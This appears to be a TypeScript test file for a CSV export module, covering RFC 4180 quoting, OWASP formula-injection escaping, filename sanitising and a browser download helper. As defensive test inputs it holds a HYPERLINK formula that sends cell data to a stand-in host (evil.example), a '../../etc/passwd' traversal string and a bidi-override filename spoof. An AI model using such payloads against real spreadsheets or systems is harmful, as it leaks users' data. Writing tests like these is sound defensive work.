import { expect } from '@open-wc/testing';
import { naughtyStrings } from '../../../../test/helpers/naughty.js';
import { csvCell, downloadText, safeFilename, toCsv } from './index.js';

/**
 * A strict RFC 4180 reader (tests only): quoted fields may hold separators, quotes and line breaks;
 * a quote inside an unquoted field, or text after a closing quote, is an error.
 */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const endRow = () => { rows.push(row); row = []; };
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { cell += '"'; i += 2; continue; }
          i += 1;
          break;
        }
        cell += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`quote inside an unquoted field at ${i}`);
        cell += text[i];
        i += 1;
      }
    }
    row.push(cell);
    if (text[i] === separator) { i += 1; continue; }
    if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
    else if (text[i] === '\n') i += 1;
    else if (i < text.length) throw new Error(`text after a closing quote at ${i}`);
    endRow();
  }
  return rows;
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
/** What a cell should read back as: the string, with a `'` in front when a spreadsheet would run it. */
const expected = (s: string) => (/^(?:[\t\r]|[ \n]*[=+\-@＝＋－＠])/.test(s) ? `'${s}` : s);

describe('csv: toCsv', () => {
  it('writes plain cells as they are, records ended by CRLF', () => {
    expect(toCsv([['nom', 'commune'], ['Médiathèque', 'Lyon']])).to.equal('nom,commune\r\nMédiathèque,Lyon\r\n');
    expect(toCsv([])).to.equal('');
  });

  it('quotes separators, quotes and line breaks (RFC 4180)', () => {
    expect(toCsv([['a,b', 'dit "bonjour"', 'ligne 1\nligne 2', 'x\r\ny', 'a;b', 'a\tb']])).to.equal(
      '"a,b","dit ""bonjour""","ligne 1\nligne 2","x\r\ny","a;b","a\tb"\r\n',
    );
    expect(toCsv([[' espace', 'fin ']])).to.equal('" espace","fin "\r\n');
  });

  it('keeps line breaks inside cells through a round trip, with either newline', () => {
    const rows = [['1', 'Espace\nnumérique', 'rue "du" Port\r\nbât. B'], ['2', '', 'x']];
    expect(parseCsv(toCsv(rows))).to.deep.equal(rows);
    expect(parseCsv(toCsv(rows, { newline: '\n' }))).to.deep.equal(rows);
    expect(toCsv([['a'], ['b']], { newline: '\n' })).to.equal('a\nb\n');
  });

  it('writes empty cells for null and undefined, numbers as given, NaN and Infinity empty', () => {
    expect(toCsv([[null, undefined, 0, -3, 3.25, 1e21, -0, NaN, Infinity, -Infinity]])).to.equal(',,0,-3,3.25,1e+21,0,,,\r\n');
    expect(toCsv([[true, 12n, new Date(Date.UTC(2026, 0, 2)), new Date(NaN)]])).to.equal('true,12,2026-01-02T00:00:00.000Z,\r\n');
  });

  it('writes a record of one empty cell as "" (not a blank line)', () => {
    expect(toCsv([['a'], [''], [null], ['b']])).to.equal('a\r\n""\r\n""\r\nb\r\n');
    expect(parseCsv(toCsv([['a'], [''], ['b']]))).to.deep.equal([['a'], [''], ['b']]);
    expect(toCsv([[]])).to.equal('\r\n');
  });

  it('starts with a BOM when asked', () => {
    const text = toCsv([['é']], { bom: true });
    expect(text.charCodeAt(0)).to.equal(0xfeff);
    expect(text.slice(1)).to.equal('é\r\n');
    expect(toCsv([['é']]).charCodeAt(0)).to.not.equal(0xfeff);
    expect(toCsv([], { bom: true })).to.equal('\uFEFF');
  });

  it('separates with ; or tab, and still quotes the other separators', () => {
    expect(toCsv([['a', 'b,c', 'd;e', 1.5]], { separator: ';' })).to.equal('a;"b,c";"d;e";1.5\r\n');
    expect(parseCsv(toCsv([['a', 'b,c', 'd;e']], { separator: ';' }), ';')).to.deep.equal([['a', 'b,c', 'd;e']]);
    expect(toCsv([['a', 'b c', 'd\te']], { separator: '\t' })).to.equal('a\tb c\t"d\te"\r\n');
  });
});

describe('csv: formula escaping (OWASP CSV injection)', () => {
  it('prefixes every formula trigger with a quote', () => {
    for (const t of TRIGGERS) {
      const s = `${t}HYPERLINK("http://evil.example/?"&A1;"clic")`;
      const [[cell]] = parseCsv(toCsv([[s]])) as [[string]];
      expect(cell, JSON.stringify(t)).to.equal(`'${s}`);
    }
    expect(csvCell('=1+1')).to.equal("'=1+1");
    expect(csvCell('@SUM(A1)')).to.equal("'@SUM(A1)");
    expect(csvCell('\tx')).to.equal(`"'\tx"`);
    expect(csvCell('\r=1')).to.equal(`"'\r=1"`);
  });

  it('looks through leading blanks, which some importers trim', () => {
    expect(csvCell(' =1+1')).to.equal("' =1+1");
    expect(csvCell('\n-1')).to.equal(`"'\n-1"`);
  });

  it('leaves numbers alone but escapes numbers written as strings', () => {
    expect(csvCell(-3)).to.equal('-3');
    expect(csvCell(-0.5)).to.equal('-0.5');
    expect(csvCell('-3')).to.equal("'-3");
    expect(csvCell('+33 4 78 00 00 00')).to.equal("'+33 4 78 00 00 00");
  });

  it('does not escape the triggers elsewhere in a cell', () => {
    expect(csvCell('a=b')).to.equal('a=b');
    expect(csvCell('Saint-Étienne')).to.equal('Saint-Étienne');
    expect(csvCell('contact@exemple.fr')).to.equal('contact@exemple.fr');
    expect(csvCell("'déjà")).to.equal("'déjà");
  });

  it('round-trips every naughty string, escaped only when a spreadsheet would run it', async () => {
    const strings = await naughtyStrings();
    expect(strings.length).to.be.greaterThan(400);
    for (const separator of [',', ';', '\t'] as const) {
      const rows = strings.map((s, k) => [k, s, `${s}${s}`]);
      const back = parseCsv(toCsv(rows, { separator, bom: true }).slice(1), separator);
      expect(back).to.have.length(strings.length);
      back.forEach((row, k) => {
        const s = strings[k]!;
        expect(row, JSON.stringify(s)).to.deep.equal([String(k), expected(s), expected(s + s)]);
      });
    }
  });
});

describe('csv: safeFilename', () => {
  it('replaces path separators, reserved and control characters, and bidi overrides', () => {
    expect(safeFilename('lieux-lyon.csv')).to.equal('lieux-lyon.csv');
    expect(safeFilename('../../etc/passwd')).to.equal('_.._etc_passwd');
    expect(safeFilename('a:b*c?"d"<e>|f\\g')).to.equal('a_b_c__d__e__f_g');
    expect(safeFilename('fichier\u202Evsc.exe')).to.equal('fichier_vsc.exe');
    expect(safeFilename('a\u0000b\nc')).to.equal('a_b_c');
    expect(safeFilename('.cache')).to.equal('cache');
  });
  it('falls back when nothing is left, and bounds the length keeping the extension', () => {
    expect(safeFilename('')).to.equal('export.txt');
    expect(safeFilename(' . ', 'lieux.csv')).to.equal('lieux.csv');
    const long = safeFilename(`${'é'.repeat(200)}.csv`);
    expect(long).to.have.length(120);
    expect(long.endsWith('.csv')).to.equal(true);
    const emoji = safeFilename('😀'.repeat(100));
    expect(emoji.length).to.be.at.most(120);
    expect(emoji).to.equal('😀'.repeat(60));
  });
});

describe('csv: downloadText', () => {
  const { createObjectURL, revokeObjectURL } = URL;
  const click = HTMLAnchorElement.prototype.click;
  afterEach(() => {
    URL.createObjectURL = createObjectURL;
    URL.revokeObjectURL = revokeObjectURL;
    HTMLAnchorElement.prototype.click = click;
  });

  it('clicks a temporary download link to an object URL, removes it, and revokes the URL later', async () => {
    const blobs: Blob[] = [];
    const revoked: string[] = [];
    URL.createObjectURL = (blob: Blob | MediaSource) => { blobs.push(blob as Blob); return createObjectURL(blob); };
    URL.revokeObjectURL = (url: string) => { revoked.push(url); revokeObjectURL(url); };
    const clicked: { href: string; download: string; inDocument: boolean; hidden: boolean }[] = [];
    // No real download in the test browser: record the click instead.
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      clicked.push({ href: this.href, download: this.download, inDocument: this.isConnected, hidden: this.hidden });
    };
    const seenByPage: EventTarget[] = [];
    const listener = (e: Event) => seenByPage.push(e.target!);
    document.addEventListener('click', listener);
    const before = location.href;
    try {
      downloadText('lieux/69.csv', '\uFEFFnom\r\nLyon\r\n', 'text/csv;charset=utf-8', { revokeAfterMs: 20 });
    } finally {
      document.removeEventListener('click', listener);
    }
    expect(clicked).to.have.length(1);
    expect(clicked[0]!.href.startsWith('blob:')).to.equal(true);
    expect(clicked[0]!.download).to.equal('lieux_69.csv');
    expect(clicked[0]!.inDocument).to.equal(true);
    expect(clicked[0]!.hidden).to.equal(true);
    expect(document.querySelector('a[download]')).to.equal(null);
    expect(location.href).to.equal(before);
    expect(blobs[0]!.type).to.equal('text/csv;charset=utf-8');
    // Blob.text() drops a BOM when decoding: look at the bytes
    const bytes = new Uint8Array(await blobs[0]!.arrayBuffer());
    expect(Array.from(bytes.slice(0, 3))).to.deep.equal([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).to.equal('\uFEFFnom\r\nLyon\r\n');
    expect(revoked).to.deep.equal([]);
    await new Promise((r) => setTimeout(r, 60));
    expect(revoked).to.deep.equal([clicked[0]!.href]);
  });

  it('keeps its synthetic click away from the page’s click handlers', () => {
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      this.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    };
    let seen = 0;
    const listener = (e: Event) => { seen += 1; e.preventDefault(); };
    // Test infrastructure, not a page handler: capture on window runs first and cancels the real
    // download (in Firefox a started download takes the focus from the test page, and every later
    // keyboard test of the run fails).
    const noDownload = (e: Event) => e.preventDefault();
    window.addEventListener('click', noDownload, true);
    document.addEventListener('click', listener);
    try {
      downloadText('a.txt', 'x', undefined, { revokeAfterMs: 0 });
    } finally {
      document.removeEventListener('click', listener);
      window.removeEventListener('click', noDownload, true);
    }
    expect(seen).to.equal(0);
  });
});
